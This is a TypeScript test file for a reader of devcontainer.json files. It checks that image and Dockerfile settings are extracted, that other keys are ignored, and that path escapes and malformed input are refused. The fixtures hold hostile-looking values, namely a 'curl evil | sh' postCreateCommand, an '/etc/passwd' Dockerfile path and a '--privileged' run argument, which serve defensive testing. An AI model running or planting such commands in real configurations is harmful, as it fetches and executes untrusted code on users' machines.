import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { HoldfastError } from '../../../protocol/errors.ts';
import { readDevcontainer } from '../../../supervisor/setup/dockerfile/devcontainer.ts';
import { temporaryDirectory } from '../../fixtures/store/temporary-home.ts';

const USUAL = '.devcontainer/devcontainer.json';
function project(files: Readonly<Record<string, string>>): string {
  const root = temporaryDirectory();
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  return root;
}
const read = (text: string, at = USUAL, path?: string) =>
  readDevcontainer(project({ [at]: text }), { path, from: ['mine:1'] });
const refusal = (text: string): Promise<string> =>
  read(text).then(
    () => 'accepted',
    (error: unknown) =>
      error instanceof HoldfastError ? `${error.code}: ${error.why ?? ''}` : String(error),
  );

describe('devcontainer.json', () => {
  test('with comments and trailing commas names an image; everything else is listed', async () => {
    const text = `{ // mine
      "name": "x", "image": "mcr.microsoft.com/devcontainers/base:1", /* more */
      "features": {}, "postCreateCommand": "curl evil | sh", "remoteUser": "me", "customizations": { "vscode": {} }, "mounts": [],
    }`;
    const expected = {
      path: USUAL,
      image: { reference: 'mcr.microsoft.com/devcontainers/base:1' },
      ignored: ['features', 'postCreateCommand', 'remoteUser', 'customizations', 'mounts'],
    };
    expect(await read(text)).toEqual(expected);
    expect(await read(text, '.devcontainer.json')).toEqual({ ...expected, path: '.devcontainer.json' });
    expect(await read(text, 'tools/dev.json', 'tools/dev.json')).toEqual({
      ...expected,
      path: 'tools/dev.json',
    });
  });

  test('names a Dockerfile, whose paths begin at its own folder', async () => {
    const build = {
      dockerfile: 'Dockerfile',
      context: '..',
      target: 'dev',
      args: { VERSION: '3', HERE: '${localEnv:HOME}', 'odd name': 'x' },
      options: ['--network=host'],
      cacheFrom: 'x',
    };
    expect(await read(JSON.stringify({ build, image: 'unused', runArgs: ['--privileged'] }))).toEqual({
      path: USUAL,
      image: {
        dockerfile: {
          path: '.devcontainer/Dockerfile',
          context: '.',
          from: ['mine:1'],
          args: { VERSION: '3' },
          target: 'dev',
        },
      },
      ignored: [
        'image',
        'runArgs',
        'build.options',
        'build.cacheFrom',
        'build.args.HERE',
        '"build.args.odd name"',
      ],
    });
    expect(await read('{ "dockerFile": "../docker/Dockerfile", "context": "../docker" }')).toMatchObject({
      image: { dockerfile: { path: 'docker/Dockerfile', context: 'docker' } },
    });
    expect(await read('{ "build": { "dockerfile": "D" } }')).toMatchObject({
      image: { dockerfile: { path: '.devcontainer/D', context: '.devcontainer' } },
    });
  });

  test.each([
    ['{ "build": { "dockerfile": "../../Dockerfile" } }', 'not a path inside'],
    ['{ "build": { "dockerfile": "/etc/passwd" } }', 'not a path inside'],
    ['{ "build": { "dockerfile": "${localWorkspaceFolder}/D" } }', 'not a path inside'],
    ['{ "build": { "dockerfile": "D", "context": "../.." } }', 'not a path inside'],
    ['{ "image": "${localEnv:IMAGE}" }', 'variables are not filled in'],
    ['{ "image": "-x" }', 'no image name'],
    ['{ "dockerComposeFile": "a.yml", "service": "x" }', 'Docker Compose'],
    ['{ "features": {} }', 'neither an image nor a Dockerfile'],
    ['{ "image": 1 }', 'must be text'],
    ['[]', 'must be a mapping'],
    ['{ "image": ', 'Unexpected end'],
    [`{ "x": "${'x'.repeat(300_000)}" }`, '256 KiB'],
  ])('%s is refused', async (text, why) => {
    expect(await refusal(text)).toContain(why);
  });

  test('that is missing, a folder or a dangling link is refused', async () => {
    const folder = project({ other: 'x', 'folder/x': 'x' });
    symlinkSync('nothing', join(folder, 'link'));
    for (const path of [undefined, 'folder', 'link', 'none'])
      await expect(readDevcontainer(folder, { path, from: [] })).rejects.toMatchObject({
        code: 'profile_invalid',
      });
  });
});
